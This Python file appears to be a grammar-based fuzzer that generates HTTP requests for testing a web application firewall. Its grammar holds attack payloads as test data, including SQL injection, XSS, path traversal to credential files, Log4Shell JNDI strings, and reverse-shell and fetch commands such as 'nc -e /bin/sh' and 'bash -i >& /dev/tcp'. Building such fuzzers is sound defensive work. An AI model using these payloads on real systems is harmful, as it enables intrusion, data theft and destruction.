r"""A million requests, from a number each: what an attacker, a phone and a broken program would send.

A request is a few *values* (an attack, a sentence, a piece of a protocol), each put through a few *disguises*
(percent signs, entities, comments, cut-off bytes) and into a *place* (query, cookie, header, form, JSON,
multipart, XML, path).  `request(seed, number)` depends on nothing else, so a request that made a difference
somewhere is named by two numbers.

The grammar is there to make rules fire and almost fire.  It knows nothing of how the rules are written.
"""

import base64
import json
from collections.abc import Callable
from random import Random
from urllib.parse import quote_from_bytes

from edge.l7.waf.request import Headers, WafRequest

Sample = tuple[WafRequest, bytes]

# `{name}` is replaced by one of the phrases under that name, again and again, at most `DEPTH_MAX` deep.
GRAMMAR: dict[str, list[str]] = {
    "attack": [
        "{sqli}", "{sqli}", "{sqli}", "{xss}", "{xss}", "{xss}", "{path}", "{path}", "{shell}", "{shell}",
        "{shell}", "{php}", "{java}", "{script}", "{template}", "{ldap}", "{url}", "{protocol}", "{xml}",
        "{windows}",
    ],
    "sqli": [
        "{num}{q}{ws}{or}{ws}{truth}{end}", "{q}{ws}{or}{ws}{truth}{end}", "{num}{ws}{or}{ws}{truth}{end}",
        "{q}){ws}{or}{ws}({truth}{end}", "{num}{q}{ws}union{ws}{all}select{ws}{columns}{from}{end}",
        "-{num}{ws}union{ws}{all}select{ws}{columns}{from}{end}", "{q};{ws}{statement}{end}",
        "{num};{statement}{end}", "{q}{ws}and{ws}{sqlcall}{end}",
        "{num}{ws}and{ws}(select{ws}{columns}{from}){op}{num}", "{word}{q}{end}",
        "{q}{ws}order{ws}by{ws}{num}{end}", "{q}{ws}group{ws}by{ws}{word}{ws}having{ws}{truth}{end}",
        "{q}||{sqlcall}||{q}", "{q}{op}{q}", "{q}{ws}like{ws}{q}%",
        "case when {truth} then {num} else {num} end", "{{{q}${nosql}{q}: {num}}}", "[${nosql}]",
        "{q}::jsonb @> {q}{{}}{q}", "/*!{num} {or} {truth}*/", "{sqlcall}", "if({truth},{sqlcall},{num})",
        "{q};{ws}waitfor{ws}delay{ws}{q}0:0:{num}{q}{end}", "{word}.{word}(){end}",
    ],
    "q": ["'", "'", "'", "\"", "`", "", "')", "'))", "\\'", "’"],
    "ws": [" ", " ", " ", "/**/", "+", "\t", "\n", "  ", "%20", "", "\x0b", "\xa0", "/*{word}*/", "--\n"],
    "or": ["or", "and", "OR", "||", "&&", "xor", "oR", "not", "having", "or not", "AnD", "like"],
    "truth": [
        "{num}={num}", "{q}{word}{q}={q}{word}", "{q}1{q}={q}1", "1=1", "true", "{num}{op}{num}",
        "{word} is null", "{num} between {num} and {num}", "{num} in ({num})", "{q}a{q} like {q}a",
        "exists(select {num})", "{num}",
    ],
    "op": [
        "=", "<", ">", "<>", "!=", "<=>", "+", "-", "*", "/", "%", "|", "^", "&", " div ", " rlike ",
        " sounds like ",
    ],
    "end": ["--", "-- -", "#", ";", "", "", "/*", "--+", ";%00", "{q}", " limit 1", "-- {word}"],
    "all": ["", "all ", "distinct ", "/*!all*/ "],
    "columns": [
        "*", "{num}", "{num},{num},{num}", "null,null", "{word}", "@@version", "{sqlcall}", "user,password",
        "0x3a",
    ],
    "from": [
        "", " from {word}", " from information_schema.tables", " from users where {truth}", " from dual",
        " from pg_user",
    ],
    "statement": [
        "drop table {word}", "insert into {word} values ({num})", "update {word} set {word}={num}",
        "shutdown", "delete from {word} where {truth}", "exec xp_cmdshell {q}{word}{q}",
        "select {columns}{from}", "create table {word} (x int)", "truncate table {word}",
        "select pg_sleep({num})", "declare @x int", "alter table {word} add x int",
    ],
    "sqlcall": [
        "sleep({num})", "benchmark({num},md5({num}))", "pg_sleep({num})", "version()",
        "concat({q}a{q},{num})", "char({num},{num})", "extractvalue({num},concat(0x7e,version()))",
        "substring({word},{num},{num})", "load_file({q}/etc/passwd{q})",
        "ascii(substr({word},{num},1)){op}{num}", "count(*)", "user()", "if({truth},1,0)",
        "cast({word} as char)", "elt({num},{num})",
    ],
    "nosql": ["ne", "gt", "where", "regex", "or", "in", "exists", "foo"],
    "xss": [
        "<script>{js}</script>", "<ScRiPt src={url}>", "<img src=x onerror={js}>", "<svg/onload={js}>",
        "<{tag} {handler}={q}{js}{q}>", "{q}><{tag}>", "\" {handler}=\"{js}", "javascript:{js}",
        "<a href=javascript:{js}>{word}</a>", "<{tag} style=x:expression({js})>", "<iframe src={url}>",
        "<{tag}>{word}</{tag}>", "<!--[if {word}]>", "<math><mi xlink:href={url}>", "{js}",
        "data:text/html,<{tag}>", "<{tag}\n{handler} = {js}//", "<base href={url}>", "<x {handler}",
        "&lt;script&gt;{js}", "+ADw-script+AD4-", "<?import {word}>", "\\u003cscript\\u003e", "{q};{js};//",
        "{q}-{js}-{q}", "<object data={url}>", "<{word} {word}={num}>", "vbscript:msgbox({num})",
        "<style>@import {q}{url}{q}</style>", "<meta http-equiv=refresh content={num}>",
        "[][[]][({q}{word}{q})]()", "< script >",
    ],
    "tag": [
        "script", "img", "svg", "b", "p", "iframe", "form", "input", "body", "details", "a", "div", "video",
        "xss", "embed", "br",
    ],
    "handler": [
        "onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onpointerenter", "on{word}",
        "ONLOAD", "style",
    ],
    "js": [
        "alert({num})", "alert`{num}`", "prompt({q}{word}{q})", "eval({q}{word}{q})", "document.cookie",
        "window[{q}alert{q}]({num})", "fetch({q}{url}{q})", "top.location={q}{url}{q}", "self.{word}",
        "String.fromCharCode({num})", "constructor.constructor({q}x{q})()", "setTimeout({q}{word}{q})",
        "document.write({q}{word}{q})", "location.href", "this.{word}={num}", "new Function({q}{word}{q})",
    ],
    "path": [
        "{up}{up}{up}{file}", "{file}", "/{file}", "{up}{word}", "file:///{file}", "C:\\{file}",
        "{word}/{up}{file}", "..;/{word}", "php://filter/convert.base64-encode/resource={file}",
        "{up}{up}windows{sep}win.ini", "/.{word}/{word}", "/.git/config", ".env", "%c0%ae%c0%ae/{file}",
        "....//....//{file}", "{file}%00.jpg", "/proc/self/environ", "~{word}/.ssh/id_rsa", "{word}.bak",
        "/{word}.php~",
    ],
    "up": ["../", "..\\", "..%2f", "%2e%2e/", "..%5c", ".../", "./", "..%252f", "..//", "%u002e%u002e%u2215"],
    "sep": ["/", "\\", "%5c", "//"],
    "file": [
        "etc/passwd", "etc/shadow", "etc/hosts", "proc/version", "var/log/{word}", "boot.ini",
        "windows/system32", "web.config", ".htaccess", "wp-config.php", "WEB-INF/web.xml", "id_rsa",
        "{word}.sql", "root/.bash_history", "etc/{word}", "{word}.txt",
    ],
    "shell": [
        "{sh}{ws}{command}", "{sh}{command}{sh}", "$({command})", "`{command}`", "{command}",
        "{word}{sh} {command}", "() {{ :;}}; {command}", "$IFS{command}", "{program}${{IFS}}{file}",
        "c''at /etc/{word}", "/b?n/c?t /e*c/p*wd", "<({command})", "{command}>/dev/tcp/{ip}/{num}",
        "{{{program},{file}}}", "\\c\\a\\t /{file}", "x=$(({num}+{num}))", "${{{word}:0:{num}}}", "!{num}",
        "~+/{word}", "while true; do {command}; done", "echo {word}|{program}", "2>&1", "{program} {word}",
        "for i in {word}; do {program}; done", "if [ {num} ]; then {program}; fi",
    ],
    "sh": [";", "|", "||", "&&", "&", "\n", "%0a", "`", "$(", ">", ""],
    "command": [
        "{program} {file}", "{program} -{word}", "{program}", "cat /{file}", "curl {url}", "wget {url}",
        "nc -e /bin/sh {ip} {num}", "id", "ls -la", "uname -a", "bash -i >& /dev/tcp/{ip}/{num} 0>&1",
        "python -c 'import os'", "ping -c {num} {ip}", "echo {word}", "sleep {num}", "rm -rf /{word}",
        "/bin/{program} {word}", "sudo {program}", "{program} {word} {word}", "find . -name {word}",
        "base64 -d", "env", "who", "{program} *",
    ],
    "program": [
        "cat", "ls", "id", "nc", "sh", "bash", "curl", "wget", "python3", "perl", "grep", "awk", "find",
        "ps", "tail", "make", "sort", "time", "who", "less", "more", "vi", "php", "node", "ruby", "tar",
        "zip", "whoami", "sed", "nmap", "ssh", "chmod", "kill", "{word}",
    ],
    "windows": [
        "cmd /c {word}", "powershell -enc {word}", "Invoke-Expression {word}", "net user {word}",
        "%COMSPEC%", "dir C:\\{word}", "type {word}.ini", "for %i in (*) do {word}",
        "if exist {word} {word}", "certutil -urlcache -f {url}", "reg query {word}", "Get-{word}",
        "New-Object {word}",
    ],
    "php": [
        "<?php {phpcall};", "{phpcall}", "{phpcall};", "$_GET[{word}]", "$GLOBALS",
        "O:{num}:\"{word}\":{num}:{{", "<?= {num} ?>", "phar://{file}", "${word}=({word});",
        "({q}{word}{q})({q}{word}{q})", "php://input", "$${word}", "auto_prepend_file={file}",
        "allow_url_include=1", "a:{num}:{{i:0;s:1:",
    ],
    "phpcall": [
        "system({q}{word}{q})", "eval($_POST[{num}])", "phpinfo()", "base64_decode({q}{word}{q})",
        "passthru({word})", "file_get_contents({q}{file}{q})", "print({word})", "array_map({word})",
        "exec ({q}{word}{q})", "chr({num})", "assert({q}{word}{q})", "date({word})", "list({word})",
    ],
    "java": [
        "${{jndi:ldap://{ip}/{word}}}", "${{${{lower:j}}ndi:{word}}}", "java.lang.Runtime",
        "%{{({word}={num})}}", "${{{num}*{num}}}", "T(java.lang.Runtime).getRuntime().exec({q}{word}{q})",
        "class.module.classLoader.{word}", "org.apache.commons.{word}", "rO0ABXNy", "#{{{word}}}",
        "new java.lang.ProcessBuilder({word})", "com.sun.{word}", "javax.naming.{word}", "${{env:{word}}}",
        "@{{{word}}}", "\\u0024{{jndi:rmi://{ip}}}",
    ],
    "script": [
        "require({q}child_process{q})", "process.env.{word}", "__proto__[{word}]",
        "constructor.prototype.{word}", "global.process.mainModule", "_$$ND_FUNC$$_function(){{}}()",
        "import os", "__import__({q}os{q})", "os.system({q}{word}{q})", "subprocess.run({word})",
        "eval({word})", "File.read({q}{file}{q})", "IO.popen({word})", "open({q}{file}{q})", "while(1){{}}",
        "JSON.parse({word})", "[].constructor", "perl -e {word}",
    ],
    "template": [
        "{{{{{num}*{num}}}}}", "{{{{{word}.__class__.__mro__}}}}", "{{% {word} %}}", "<%= {num} %>",
        "#{{{num}}}", "{{{{{word}}}}}", "${{{word}}}", "{{{{config.items()}}}}", "{{php}}{word}{{/php}}",
        "<#assign {word}>", "*{{T({word})}}", "[[${{{word}}}]]", "@({num}+{num})",
    ],
    "ldap": [
        "*)(uid=*))(|(uid=*", "({word}={word})", "(&({word}=*)", ")({word}=*", "*)(objectClass=*",
        "admin)(!(&(1=0",
    ],
    "url": [
        "http://{ip}/{word}", "https://example.com/{word}?{word}={num}", "//{word}.example",
        "http://127.0.0.1:{num}/", "http://169.254.169.254/latest/meta-data", "gopher://{ip}",
        "ftp://{word}@{ip}/", "http://localhost", "http://[::1]/", "https://{word}.test/a?",
        "file:///{file}", "dict://{ip}:{num}",
    ],
    "ip": [
        "10.0.0.{num}", "127.0.0.1", "192.168.1.1", "0x7f000001", "2130706433", "203.0.113.{num}",
        "[::ffff:127.0.0.1]",
    ],
    "protocol": [
        "\r\nSet-Cookie: {word}={num}", "\r\n\r\n<{tag}>", "HTTP/1.1 200", "GET /{word} HTTP/1.1",
        "\nLocation: {url}", "\x00", "\r\nContent-Length: 0", "jsessionid", "PHPSESSID",
        "\nRCPT TO:<{word}>", "{word}\r\nMAIL FROM:<{word}>", "document.cookie={q}a;expires={q}", "À¯", "ÿþ",
    ],
    "xml": [
        "<!DOCTYPE {word}>", "<!ENTITY {word} SYSTEM {q}{url}{q}>", "<xi:include href={file}/>",
        "<soap:Body>", "!!python/object:{word}", "]]>",
    ],
    "sentence": [
        "the {word} and the {word} or a {word}", "{word}, {word}; {word}.", "it's {word} o'clock",
        "select a {word} from the {word}", "{word} {num} + {num} = {num}", "{word}@{word}.example",
        "https://{word}.example/{word}?{word}={num}", "who is {word}? \"{word}\", she said",
        "5 > {num} & {word} < 3", "{word} -- {word} -- {word}", "été {word} à la {word}", "заказ {word}",
        "{word}-{word}_{word}", "union of {word} select committee", "order by {word}", "drop the {word}",
        "{word} (the {word})", "let's {word} like it's {num}", "#{word} #{word}", "$ {num}.99",
        "100% {word}", "{num}", "{word}", "cat and {word}", "update {word} set", "script for {word}",
        "{word} |{word}|", "a & b", "[{word}]({word})", "**{word}** `{word}`", "日本 {word}",
    ],
    "word": [
        "admin", "test", "x", "a", "users", "name", "id", "hello", "password", "cat", "data", "file", "page",
        "value", "foo", "bar", "table", "list", "time", "sunset", "coffee", "class", "system", "script",
        "order", "group", "image", "null", "select", "from", "where", "type", "config", "q",
    ],
    "num": ["0", "1", "2", "3", "5", "7", "10", "42", "99", "1337", "2024", "0x1f", "1.5", "-1", "65536"],
}  # fmt: skip
DEPTH_MAX = 7
# Names as forms, queries and attacks have them.
NAMES = [
    "q",
    "id",
    "text",
    "page",
    "file",
    "name",
    "user",
    "url",
    "next",
    "cmd",
    "message",
    "sort",
    "edge_session",
    "token",
    "a[b]",
    "jsessionid",
    "__proto__",
    "x.y",
    "PHPSESSID",
    "comment",
    "lang",
    "path",
    "$ne",
    "a'b",
    "",
]
AGENTS = [
    b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    b"curl/8.5.0",
    b"EdgePhone/1.0",
    b"sqlmap/1.8",
    b"",
    b"Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15",
    b"Nikto/2.5",
    b"python-requests/2.31",
]
HEADERS = [
    b"referer",
    b"x-forwarded-for",
    b"x-filename",
    b"accept-language",
    b"origin",
    b"range",
    b"if-none-match",
    b"x-note",
    b"content-encoding",
    b"authorization",
    b"x-http-method-override",
    b"te",
    b"upgrade",
    b"accept",
    b"accept-charset",
    b"proxy",
    b"via",
    b"expect",
]
KINDS = [
    b"text/plain",
    b"application/octet-stream",
    b"application/x-www-form-urlencoded; charset=utf-7",
    b"multipart/form-data",
    b"text/html",
    b"application/json; charset=utf-16",
    b"application/vnd.api+json",
    b"",
    b"image/png",
    b"application/x-yaml",
]


def phrase(dice: Random, name: str, depth: int = 0, grammar: dict[str, list[str]] = GRAMMAR) -> str:
    """One phrase of a grammar."""
    text = dice.choice(grammar[name])
    out: list[str] = []
    at = 0
    while at < len(text):
        if text.startswith(("{{", "}}"), at):
            out.append(text[at])
            at += 2
        elif text[at] == "{":
            end = text.index("}", at)
            out.append(phrase(dice, text[at + 1 : end], depth + 1, grammar) if depth < DEPTH_MAX else "x")
            at = end + 1
        else:
            out.append(text[at])
            at += 1
    return "".join(out)


# -- disguises ------------------------------------------------------------------


def _some(dice: Random, value: bytes, write: Callable[[int], bytes]) -> bytes:
    """Every byte, or only some, written another way."""
    share = dice.choice((0.1, 0.5, 1.0))
    return b"".join(write(byte) if dice.random() < share else bytes((byte,)) for byte in value)


def _upper_some(dice: Random, value: bytes) -> bytes:
    return b"".join(bytes((byte,)).swapcase() if dice.random() < 0.5 else bytes((byte,)) for byte in value)


def _insert(dice: Random, value: bytes) -> bytes:
    piece = dice.choice(
        (
            b"\x00",
            b"/**/",
            b"\\",
            b"''",
            b'""',
            b"\n",
            b"\r\n",
            b"\x1e\n",
            b"\x1e",
            b"\x1f",
            b"$@",
            b"^",
            b"\xc2\xa0",
            b"\xff",
        )
    )
    at = dice.randrange(len(value) + 1)
    return value[:at] + piece + value[at:]


def _delete(dice: Random, value: bytes) -> bytes:
    at = dice.randrange(len(value) + 1)
    return value[:at] + value[at + dice.randrange(1, 4) :]


def _noise(dice: Random, value: bytes) -> bytes:
    at = dice.randrange(len(value) + 1)
    return value[:at] + dice.randbytes(dice.randrange(1, 5)) + value[at:]


DISGUISES: list[Callable[[Random, bytes], bytes]] = [
    lambda dice, value: _some(dice, value, lambda byte: b"%%%02x" % byte),
    lambda dice, value: _some(dice, value, lambda byte: b"%%25%02X" % byte),
    lambda dice, value: _some(dice, value, lambda byte: b"%%u00%02x" % byte),
    lambda dice, value: _some(
        dice, value, lambda byte: b"%%uff%02x" % (byte - 0x20) if 0x20 < byte < 0x7F else bytes((byte,))
    ),
    lambda dice, value: _some(dice, value, lambda byte: b"&#%d;" % byte),
    lambda dice, value: _some(dice, value, lambda byte: b"&#x%x" % byte),
    lambda dice, value: _some(dice, value, lambda byte: b"\\x%02x" % byte),
    lambda dice, value: _some(dice, value, lambda byte: b"\\u00%02x" % byte),
    lambda dice, value: _some(dice, value, lambda byte: b"\\" + bytes((byte,))),
    lambda dice, value: _some(
        dice,
        value,
        lambda byte: bytes((0xC0 | byte >> 6, 0x80 | byte & 0x3F)) if byte < 0x80 else bytes((byte,)),
    ),
    lambda dice, value: value.replace(b" ", dice.choice((b"+", b"\t", b"/**/", b"%0a", b"${IFS}", b"  "))),
    lambda dice, value: value.replace(b"<", dice.choice((b"&lt;", b"\\u003c", b"\xbc", b"%uff1c", b"+ADw-"))),
    lambda dice, value: base64.b64encode(value),
    lambda dice, value: value.hex().encode(),
    lambda dice, value: value * dice.randrange(2, 6),
    lambda dice, value: value[: dice.randrange(len(value) + 1)],
    lambda dice, value: value[dice.randrange(len(value) + 1) :],
    _upper_some,
    _insert,
    _insert,
    _delete,
    _noise,
]


def value(dice: Random) -> bytes:
    """One value: a sentence, an attack, or both, disguised or not."""
    roll = dice.random()
    parts = [phrase(dice, "sentence")] if roll < 0.35 else [phrase(dice, "attack")]
    while dice.random() < 0.25:
        parts.insert(dice.randrange(2), phrase(dice, dice.choice(("sentence", "attack"))))
    made = dice.choice((" ", "", "\n", ";")).join(parts).encode("utf-8", "surrogatepass")
    while made and dice.random() < 0.3:
        made = dice.choice(DISGUISES)(dice, made)
    if dice.random() < 0.01:
        made = made * (1 + 2000 // (len(made) + 1))  # long texts take another path
    return made[:4000]


# -- places ---------------------------------------------------------------------


def _name(dice: Random) -> bytes:
    return dice.choice(NAMES).encode() if dice.random() < 0.9 else value(dice)[:80]


def _escaped(dice: Random, text: bytes) -> bytes:
    """As a browser, a lenient client or nobody would escape it for a URL."""
    roll = dice.random()
    if roll < 0.6:
        return quote_from_bytes(text, safe="").replace("%20", dice.choice(("+", "%20"))).encode()
    if roll < 0.9:
        return quote_from_bytes(text, safe="/'\"()<>;:,=$!*@{}[]|\\^`~").encode()
    return text.translate(None, b" \r\n#\x00")


def _pairs(dice: Random, count: int) -> bytes:
    return b"&".join(_escaped(dice, _name(dice)) + b"=" + _escaped(dice, value(dice)) for _ in range(count))


def _json(dice: Random, depth: int = 0) -> object:
    roll = dice.random()
    if depth < 3 and roll < 0.35:
        return {_name(dice).decode("latin-1"): _json(dice, depth + 1) for _ in range(dice.randrange(4))}
    if depth < 3 and roll < 0.5:
        return [_json(dice, depth + 1) for _ in range(dice.randrange(4))]
    if roll < 0.6:
        return dice.choice((None, True, False, 0, 1.5, -7))
    return value(dice).decode("utf-8", "replace" if dice.random() < 0.5 else "ignore")


def _multipart(dice: Random) -> tuple[bytes, bytes]:
    boundary = dice.choice((b"----edge", b"x", b"'\"", b"a b"))
    out = []
    for _ in range(dice.randrange(1, 4)):
        name = _name(dice).replace(b'"', b"%22").replace(b"\n", b"")
        disposition = b'form-data; name="%s"' % name
        extra = b""
        if dice.random() < 0.3:
            disposition += b'; filename="%s"' % value(dice)[:60].replace(b'"', b"").replace(b"\n", b"")
            extra = b"Content-Type: %s\r\n" % dice.choice(
                (b"image/png", b"text/plain", b"text/html; charset=utf-7")
            )
        out.append(
            b"--%s\r\nContent-Disposition: %s\r\n%s\r\n%s\r\n" % (boundary, disposition, extra, value(dice))
        )
    end = b"--%s--\r\n" % boundary if dice.random() < 0.9 else b""
    return b"multipart/form-data; boundary=" + (
        b'"%s"' % boundary if dice.random() < 0.3 else boundary
    ), b"".join(out) + end


def _xml(dice: Random) -> bytes:
    text = value(dice)
    if dice.random() < 0.7:
        text = text.replace(b"&", b"&amp;").replace(b"<", b"&lt;")
    attribute = value(dice)[:80].replace(b"&", b"&amp;").replace(b"<", b"&lt;").replace(b'"', b"&quot;")
    head = dice.choice(
        (b"", b'<?xml version="1.0"?>', b"<!DOCTYPE a>", b'<?xml version="1.0" encoding="iso-8859-1"?>')
    )
    return head + b'<a b="%s">%s<c>%s</c></a>' % (
        attribute,
        text,
        dice.choice((b"", b"1", b"<![CDATA[%s]]>" % value(dice))),
    )


def _body(dice: Random) -> tuple[bytes, bytes]:
    """A Content-Type and a body that mostly agree."""
    roll = dice.random()
    if roll < 0.4:
        return b"application/x-www-form-urlencoded", _pairs(dice, dice.randrange(1, 4))
    if roll < 0.65:
        return dice.choice((b"application/json", b"application/json; charset=utf-8")), json.dumps(
            _json(dice)
        ).encode()
    if roll < 0.8:
        return _multipart(dice)
    if roll < 0.9:
        return dice.choice((b"application/xml", b"text/xml", b"application/soap+xml")), _xml(dice)
    return dice.choice(KINDS), value(dice)


def request(seed: int, number: int) -> Sample:
    """Request `number` of the series `seed`; always the same one."""
    dice = Random(f"{seed}/{number}")
    path = (
        b"/" + _escaped(dice, value(dice))
        if dice.random() < 0.12
        else dice.choice((b"/", b"/search", b"/api/v1/feed/timeline/", b"/a/b.php"))
    )
    target = path + (b"?" + _pairs(dice, dice.randrange(1, 4)) if dice.random() < 0.5 else b"")
    headers: list[tuple[bytes, bytes]] = [
        (b"host", b"i.edge.test"),
        (b"user-agent", dice.choice(AGENTS)),
        (b"accept", b"*/*"),
    ]
    if dice.random() < 0.3:
        pairs = [_name(dice) + b"=" + value(dice).replace(b";", b"%3b") for _ in range(dice.randrange(1, 3))]
        headers.append((b"cookie", _line(b"; ".join(pairs))))
    if dice.random() < 0.2:
        headers.append((dice.choice(HEADERS), _line(value(dice))))
    if dice.random() < 0.05:
        headers[1] = (b"user-agent", _line(value(dice)))
    body = b""
    method = dice.choice(("GET", "GET", "GET", "HEAD", "OPTIONS", "DELETE"))
    if dice.random() < 0.45:
        kind, body = _body(dice)
        if dice.random() < 0.1 and body:
            body = dice.choice(DISGUISES)(dice, body)
        method = dice.choice(("POST", "POST", "PUT", "PATCH", "GET"))
        headers += [(b"content-type", kind)] if kind else []
        headers.append((b"content-length", b"%d" % len(body)))
    return WafRequest("203.0.113.9", method, target, "HTTP/1.1", tuple(headers)), body


def small_request(seed: int, number: int) -> Sample:
    """One value in one place: a third of the price, so that a million of them can be afforded."""
    dice = Random(f"{seed}/small/{number}")
    text, roll = value(dice)[:300], dice.random()
    headers: list[tuple[bytes, bytes]] = [(b"host", b"i.edge.test"), (b"user-agent", AGENTS[0])]
    if roll < 0.55:
        return WafRequest(
            "203.0.113.9", "GET", b"/?q=" + _escaped(dice, text), "HTTP/1.1", tuple(headers)
        ), b""
    if roll < 0.65:
        headers.append((b"cookie", b"a=" + _line(text)))
        return WafRequest("203.0.113.9", "GET", b"/", "HTTP/1.1", tuple(headers)), b""
    if roll < 0.7:
        return WafRequest("203.0.113.9", "GET", b"/" + _escaped(dice, text), "HTTP/1.1", tuple(headers)), b""
    kind, body = b"application/x-www-form-urlencoded", b"text=" + _escaped(dice, text)
    if roll > 0.9:
        kind, body = b"application/json", json.dumps({"a": text.decode("utf-8", "replace")}).encode()
    headers.append((b"content-type", kind))
    return WafRequest("203.0.113.9", "POST", b"/", "HTTP/1.1", tuple(headers)), body


def _line(text: bytes) -> bytes:
    """What h11 would let into a header."""
    return text.translate(None, b"\r\n\x00").strip()


# -- mutations of given requests --------------------------------------------------


def mutated(dice: Random, sample: Sample) -> Sample:
    """The same request with a few bytes elsewhere: in the target, a header or the body."""
    head, body = sample
    target, headers = head.target, list(head.headers)
    for _ in range(dice.randrange(1, 3)):
        disguise = dice.choice(DISGUISES)
        roll = dice.random()
        if body and roll < 0.5:
            cut = dice.randrange(len(body) + 1)
            piece = body[cut : cut + dice.randrange(1, 40)]
            body = (body[:cut] + disguise(dice, piece) + body[cut + len(piece) :])[:8000]
        elif roll < 0.8 or not headers:
            cut = dice.randrange(1, len(target) + 1) if target else 0
            piece = target[cut : cut + dice.randrange(1, 40)]
            target = (
                target[:cut] + disguise(dice, piece).translate(None, b" \r\n") + target[cut + len(piece) :]
            )[:4000]
        else:
            at = dice.randrange(len(headers))
            headers[at] = (headers[at][0], _line(disguise(dice, headers[at][1]))[:4000])
    fixed: Headers = tuple(headers)
    return WafRequest(head.client, head.method, target, head.protocol, fixed), body
